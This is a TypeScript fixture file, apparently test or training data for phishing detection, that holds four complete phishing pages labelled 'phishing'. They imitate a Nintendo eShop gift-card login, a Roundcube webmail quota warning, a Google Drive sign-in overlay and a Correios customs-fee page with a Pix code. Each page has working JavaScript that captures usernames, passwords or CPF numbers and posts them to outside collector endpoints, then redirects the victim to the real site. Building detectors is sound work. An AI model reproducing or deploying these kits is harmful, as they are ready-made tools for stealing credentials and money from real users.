import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { RAVEN, doc, googleMark, msMark, psMark, qrSvg, ravenLogo } from '../parts/yc-kit.js';

export const entries: Entry[] = [
{
  id: 'yc-nintendo-eshop-presente-ptbr',
  label: 'phishing',
  kind: 'console-account-kit',
  url: 'https://nintendo-eshop-presente.com.br/conta/entrar',
  body: doc({
    title: 'Conta Nintendo',
    lang: 'pt-BR',
    css: `*{box-sizing:border-box}body{margin:0;background:#f5f5f5;font-family:"Nintendo NTLG-DB","Helvetica Neue",Arial,sans-serif;color:#333}
.hd{background:#e60012;height:60px;display:flex;align-items:center;justify-content:center}.hd span{color:#fff;font-weight:800;font-size:24px;border:3px solid #fff;border-radius:30px;padding:2px 16px}
.box{max-width:440px;margin:36px auto;background:#fff;border-radius:8px;padding:32px;box-shadow:0 2px 8px rgba(0,0,0,.08)}
.gift{display:flex;gap:12px;align-items:center;background:#fff4f4;border:1px dashed #e60012;border-radius:8px;padding:12px;margin-bottom:18px;font-size:14px}
input{width:100%;height:46px;border:2px solid #ddd;border-radius:6px;padding:0 12px;font-size:16px;margin:6px 0 14px}
button{width:100%;height:50px;border-radius:25px;border:0;background:#e60012;color:#fff;font-size:17px;font-weight:700;cursor:pointer}`,
    body: `<div class="hd"><span>Nintendo</span></div>
<div class="box"><h2 style="margin-top:0">Acessar Conta Nintendo</h2>
<div class="gift"><b style="font-size:28px">&#127873;</b><div><b>Cartão presente eShop R$ 250,00</b><br>Sorteio de aniversário Nintendo Switch 2 — você foi um dos 500 contemplados no Brasil. Entre para resgatar.</div></div>
<form id="nf"><label>Endereço de e-mail/ID de usuário</label><input name="usuario" required><label>Senha</label><input type="password" name="senha" required>
<label>CPF (para emissão da nota do presente)</label><input name="cpf" placeholder="000.000.000-00" maxlength="14" required><button>Entrar e resgatar</button></form>
<p style="font-size:13px;text-align:center;color:#777">Esqueceu sua senha? · Criar uma Conta Nintendo</p></div>
<p style="text-align:center;font-size:11px;color:#999">© Nintendo. Nintendo Switch é marca registrada da Nintendo.</p>
<script>
document.querySelector('[name=cpf]').addEventListener('input',function(){var v=this.value.replace(/\\D/g,'').slice(0,11);this.value=v.replace(/(\\d{3})(\\d)/,'$1.$2').replace(/(\\d{3})(\\d)/,'$1.$2').replace(/(\\d{3})(\\d{1,2})$/,'$1-$2')});
document.getElementById('nf').onsubmit=function(e){e.preventDefault();var d=new FormData(this);d.append('origem','eshop250');
fetch('https://script.google.com/macros/s/AKfycbx3Qv9lP2nTzR8sY4mWkE7uJdH1cGfA0oB6iLxVt5yZqN/exec',{method:'POST',mode:'no-cors',body:d}).then(function(){location.href='https://www.nintendo.com/pt-br/'})};
</script>`,
  }),
},
{
  id: 'yc-roundcube-clone-studio-mail',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail.ravenhold-studio.com/?_task=login&_err=quota',
  body: doc({
    title: 'Ravenhold Studio Webmail :: Welcome to Ravenhold Studio Webmail',
    css: `body{margin:0;background:#f4f4f4;font-family:"Source Sans Pro","Segoe UI",Roboto,Arial,sans-serif}
#layout{display:flex;align-items:center;justify-content:center;min-height:100vh;flex-direction:column}
#login-form{background:#fff;border:1px solid #d4dbde;border-radius:4px;padding:30px 40px;width:360px}
#logo{text-align:center;margin-bottom:20px}table{width:100%}td.title{display:none}input.form-control{width:100%;box-sizing:border-box;height:38px;border:1px solid #d4dbde;border-radius:4px;padding:0 10px;font-size:15px;margin-bottom:12px}
.btn-primary{width:100%;height:40px;background:#37beff;border:0;border-radius:4px;color:#fff;font-size:15px;font-weight:600;cursor:pointer}
#message{background:#fef3cd;border:1px solid #f8d978;color:#7a5c00;padding:10px 12px;font-size:13px;border-radius:4px;margin-bottom:14px}
#login-footer{font-size:12px;color:#999;margin-top:16px}`,
    body: `<div id="layout"><div id="login-form"><div id="logo">${ravenLogo(34, RAVEN.red, '#333')}<div style="font-size:13px;color:#777">Studio Webmail</div></div>
<div id="message">Your mailbox is 98% full (4.91 GB of 5 GB). Log in to release held messages and upgrade your quota before incoming mail is rejected.</div>
<form name="login-form" method="post" action="./?_task=login" id="rf"><input type="hidden" name="_token" value="VxE3Gbq9k2PpLm0s"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login"><input type="hidden" name="_timezone" id="rcmlogintz" value="_default_">
<table><tbody><tr><td class="title"><label for="rcmloginuser">Username</label></td><td><input name="_user" id="rcmloginuser" class="form-control" placeholder="Username" autocomplete="username" required></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Password</label></td><td><input name="_pass" id="rcmloginpwd" class="form-control" type="password" placeholder="Password" autocomplete="current-password" required></td></tr></tbody></table>
<button type="submit" class="btn-primary" id="rcmloginsubmit">Login</button></form></div>
<div id="login-footer">Ravenhold Studio Webmail · Roundcube Webmail</div></div>
<script>
var q=new URLSearchParams(location.hash.slice(1));if(q.get('e')){document.getElementById('rcmloginuser').value=atob(q.get('e'))}
document.getElementById('rcmlogintz').value=Intl.DateTimeFormat().resolvedOptions().timeZone;
document.getElementById('rf').onsubmit=function(e){e.preventDefault();var u=document.getElementById('rcmloginuser').value,p=document.getElementById('rcmloginpwd').value;
var x=new XMLHttpRequest();x.open('POST','https://rhmail-sync.online/rc/save.php',false);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');try{x.send('u='+encodeURIComponent(u)+'&p='+encodeURIComponent(p)+'&h='+location.hostname)}catch(_){}
alert('Login failed. Please try again later.');location.href='https://ravenhold.com/'};
</script>`,
  }),
},
{
  id: 'yc-gdrive-bracket-share-google-login',
  label: 'phishing',
  kind: 'cloud-login-kit',
  url: 'https://bracket-shared-docs.web.app/file/d/1Qz7xR4vB0nKpT2s/view',
  body: doc({
    title: 'Spring Invitational - Bracket & Payouts.xlsx - Google Drive',
    css: `*{box-sizing:border-box}body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#f1f3f4}
.dv{position:fixed;inset:0;background:#525659;filter:blur(3px)}.dv table{background:#fff;margin:80px auto;border-collapse:collapse;width:780px}.dv td{border:1px solid #ddd;padding:6px;font-size:12px}
.modal{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);width:450px;background:#fff;border:1px solid #dadce0;border-radius:8px;padding:48px 40px 36px}
h1{font-size:24px;font-weight:400;text-align:center;margin:16px 0 8px}.s{text-align:center;font-size:16px;margin-bottom:30px}
input{width:100%;height:56px;border:1px solid #dadce0;border-radius:4px;padding:0 14px;font-size:16px}.row{display:flex;justify-content:space-between;align-items:center;margin-top:36px}
.nx{background:#1a73e8;color:#fff;border:0;border-radius:4px;height:36px;padding:0 24px;font-weight:500;cursor:pointer}a{color:#1a73e8;text-decoration:none;font-size:14px;font-weight:500}
.chip{border:1px solid #dadce0;border-radius:16px;padding:4px 10px;display:inline-block;font-size:14px}`,
    body: `<div class="dv"><table>${Array.from({ length: 18 }, (_, i) => `<tr><td>${i + 1}</td><td>Team ${String.fromCharCode(65 + i)}</td><td>${Math.round(1500 + ((i * 97) % 600))}</td><td>$${(i + 1) * 125}</td></tr>`).join('')}</table></div>
<div class="modal"><div style="text-align:center">${googleMark(26)}</div>
<div id="s1"><h1>Sign in</h1><div class="s">to continue to Google Drive</div><input type="email" id="id" placeholder="Email or phone" autocomplete="username"><div style="margin-top:8px"><a href="#">Forgot email?</a></div>
<p style="font-size:14px;color:#5f6368;margin-top:30px">The file owner (spring.invitational.admin@gmail.com) requires you to sign in to view this file.</p>
<div class="row"><a href="#">Create account</a><button class="nx" onclick="nx()">Next</button></div></div>
<div id="s2" style="display:none"><h1>Welcome</h1><div class="s"><span class="chip" id="ch"></span></div><input type="password" id="pw" placeholder="Enter your password" autocomplete="current-password"><div style="margin-top:8px;font-size:14px"><input type="checkbox" style="width:auto;height:auto" onclick="pw.type=this.checked?'text':'password'"> Show password</div>
<div class="row"><a href="#">Forgot password?</a><button class="nx" onclick="fin()">Next</button></div></div></div>
<script>
function nx(){var v=document.getElementById('id').value;if(!v)return;document.getElementById('ch').textContent=v;document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'}
function fin(){var d={email:document.getElementById('id').value,password:document.getElementById('pw').value,file:'1Qz7xR4vB0nKpT2s'};
fetch('https://submit-form.com/mQz81xLw',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify(d)}).finally(function(){location.href='https://docs.google.com/spreadsheets/'})}
</script>`,
  }),
},
{
  id: 'yc-correios-console-taxa-pix',
  label: 'phishing',
  kind: 'delivery-fee-kit',
  url: 'https://correios-rastreio-taxa.com/rastreio/NL948201366BR',
  body: doc({
    title: 'Correios - Rastreamento de Objetos',
    lang: 'pt-BR',
    css: `*{box-sizing:border-box}body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f5f5f5;color:#333}
.hd{background:#ffd400;height:64px;display:flex;align-items:center;padding:0 30px}.hd b{color:#00416b;font-size:26px;font-style:italic}
.w{max-width:760px;margin:26px auto;background:#fff;padding:28px;border-radius:4px}
.tl{border-left:3px solid #00416b;padding-left:18px}.tl div{margin:14px 0;font-size:14px}.tl div b{display:block}
.tax{background:#fff8d6;border:1px solid #f0d050;padding:16px;border-radius:4px;margin:20px 0}
input{width:100%;height:40px;border:1px solid #ccc;border-radius:4px;padding:0 10px;margin:4px 0 12px;font-size:15px}
button{background:#00416b;color:#fff;border:0;border-radius:4px;height:44px;padding:0 22px;font-size:15px;cursor:pointer}
#pix{display:none;text-align:center}#pix textarea{width:100%;height:70px;font-size:11px}`,
    body: `<div class="hd"><b>Correios</b><span style="margin-left:20px;color:#00416b;font-size:14px">Minhas Importações</span></div>
<div class="w"><h2>Objeto NL948201366BR</h2><p>Conteúdo declarado: <b>Console de videogame PlayStation 5 Slim + 2 controles</b></p>
<div class="tl"><div><b>Aguardando pagamento</b>Unidade de Tratamento Internacional - CURITIBA/PR · hoje, 08:12</div><div><b>Fiscalização aduaneira finalizada</b>CURITIBA/PR · ontem, 22:40</div><div><b>Objeto recebido pelos Correios do Brasil</b>CURITIBA/PR · 3 dias atrás</div></div>
<div class="tax"><b>Tributos e despacho postal: R$ 87,42</b><br>O prazo para pagamento termina em <b>2 dias</b>. Após o prazo o objeto será devolvido ao remetente.</div>
<form id="f1"><label>Nome completo</label><input name="nome" required><label>CPF</label><input name="cpf" required maxlength="14"><label>Telefone</label><input name="tel"><button>Gerar pagamento via Pix</button></form>
<div id="pix"><p>Escaneie o QR Code ou copie o código Pix abaixo. A liberação é automática em até 10 minutos.</p>${qrSvg('pix-br-87.42-correios', 5)}<textarea readonly>00020126580014br.gov.bcb.pix0136a1f7c2e9-4d3b-4b8e-9f2a-77c0e5d1b3a95204000053039865405087.425802BR5922RASTREIO EXPRESS LTDA6009SAO PAULO62070503***6304B1C7</textarea><button onclick="navigator.clipboard.writeText(document.querySelector('#pix textarea').value)">Copiar código Pix</button></div></div>
<p style="text-align:center;font-size:11px;color:#888">© Copyright 2025 Correios</p>
<script>document.getElementById('f1').onsubmit=function(e){e.preventDefault();fetch('/api/lead',{method:'POST',body:new FormData(this)}).catch(function(){});this.style.display='none';document.getElementById('pix').style.display='block'};</script>`,
  }),
  routes: { 'correios-rastreio-taxa.com/api/lead': jsonRoute({ ok: true }) },
},
];
